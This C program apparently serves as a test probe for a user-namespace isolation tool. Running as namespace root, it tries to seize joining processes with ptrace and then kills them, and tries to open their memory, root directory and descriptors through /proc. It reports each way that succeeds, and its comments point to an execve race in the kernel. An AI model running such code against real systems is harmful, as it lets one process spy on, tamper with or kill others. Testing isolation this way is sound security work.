/*
 * Runs in a user namespace as its root and attacks every process that joins, in a loop over the newest pids: it seizes the process
 * with ptrace, opens its memory and its root, and reads the links of /proc/PID and of its descriptors. Prints a line
 * "caught PID UID NAME" for each process that it seized, and "WAY PID UID NAME" for each that it looked into; UID is the ID in
 * the namespace.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static int newest(void)
{
	char text[128] = "";
	FILE *file = fopen("/proc/loadavg", "r");
	char *last;

	if (file == NULL) return 0;
	if (fgets(text, sizeof text, file) == NULL) text[0] = '\0';
	fclose(file);
	last = strrchr(text, ' ');
	return last == NULL ? 0 : atoi(last + 1);
}

static void report(const char *way, int pid)
{
	char path[64];
	char line[256];
	char name[64] = "?";
	int uid = -1;
	FILE *file;

	snprintf(path, sizeof path, "/proc/%d/status", pid);
	file = fopen(path, "r");
	while (file != NULL && fgets(line, sizeof line, file) != NULL) {
		sscanf(line, "Name: %63s", name);
		sscanf(line, "Uid: %d", &uid);
	}
	if (file != NULL) fclose(file);
	printf("%s %d %d %s\n", way, pid, uid, name);
	fflush(stdout);
}

#define MOST_PIDS (1 << 22)

/* The processes that were looked into: each is reported once, at the first round in which a way succeeds. */
static char seen[MOST_PIDS];

/*
 * Returns 1 if a process of this package is in execve(2): it has the memory of the program, which belongs to the namespace, a moment
 * before it gets the name of the program, and root of the namespace may look into it from then on (exec_mmap() and __set_task_comm()
 * in begin_new_exec(), fs/exec.c). Its exe leads to the program then, and not to the memory file.
 */
static int is_in_execve(int pid)
{
	char path[64];
	char name[32] = "";
	char exe[256];
	ssize_t length;
	FILE *file;

	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	file = fopen(path, "r");
	if (file == NULL) return 0;
	if (fgets(name, sizeof name, file) == NULL) name[0] = '\0';
	fclose(file);
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	length = readlink(path, exe, sizeof exe - 1);
	if (length < 0 || strncmp(name, "userns-", 7) != 0) return 0;
	exe[length] = '\0';
	return strstr(exe, "memfd:userns-") == NULL;
}

/*
 * Returns 1 for a process that ends and has no memory any more. On older kernels, everybody with the capability may look into it
 * and seize it, whatever it was before. It executes nothing, so that only what it still has counts: its descriptors and its root.
 */
static int has_ended(int pid)
{
	char path[64];
	char line[256];
	int found = 0;
	FILE *file;

	snprintf(path, sizeof path, "/proc/%d/status", pid);
	file = fopen(path, "r");
	if (file == NULL) return 1;
	while (!found && fgets(line, sizeof line, file) != NULL) found = strncmp(line, "VmSize:", 7) == 0;
	fclose(file);
	return !found;
}

/* Whether a directory has an entry. */
static int has_entries(int fd)
{
	int copy = openat(fd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	DIR *list = copy < 0 ? NULL : fdopendir(copy);
	int found = 0;

	for (struct dirent *entry; !found && list != NULL && (entry = readdir(list)) != NULL;) found = entry->d_name[0] != '.';
	if (list != NULL) closedir(list);
	return found;
}

static void looked(const char *way, int pid)
{
	if (is_in_execve(pid)) return;
	report(way, pid);
	seen[pid] = 1;
}

/* Tries each way into a process without stopping it. */
static void look_into(int pid)
{
	static const char *const links[] = {"root", "cwd", "exe", "ns/mnt", "fd/0", "fd/3", "fd/4", "fd/5"};
	char path[64];
	char target[256];
	DIR *list;
	int fd;

	if (pid >= MOST_PIDS || seen[pid]) return;
	for (unsigned i = 0; i < sizeof links / sizeof *links; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
		if (readlink(path, target, sizeof target) >= 0 && (links[i][0] == 'f' || !has_ended(pid))) looked(links[i], pid);
	}
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	list = opendir(path); /* the owner of the directory may list it without the permission to trace */
	if (list != NULL) looked("fd", pid);
	if (list != NULL) closedir(list);
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd >= 0) looked("mem", pid);
	if (fd >= 0) close(fd);
	snprintf(path, sizeof path, "/proc/%d/root/.", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd >= 0 && (!has_ended(pid) || has_entries(fd))) looked("open-root", pid);
	if (fd >= 0) close(fd);
}

int main(void)
{
	int caught = 0;
	unsigned round = 0;

	printf("ready\n");
	fflush(stdout);
	for (;;) {
		int last = newest();

		round++;
		for (int pid = last; pid > last - 4 && pid > 1; pid--) {
			if (pid == getpid() || pid == caught) continue;
			/* In every second round, because a process that is seized is killed. */
			if (round % 2 == 0) {
				look_into(pid);
				continue;
			}
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) continue;
			caught = pid;
			if (!has_ended(pid)) report("caught", pid);
			kill(pid, 9);
			waitpid(pid, NULL, __WALL);
		}
	}
}
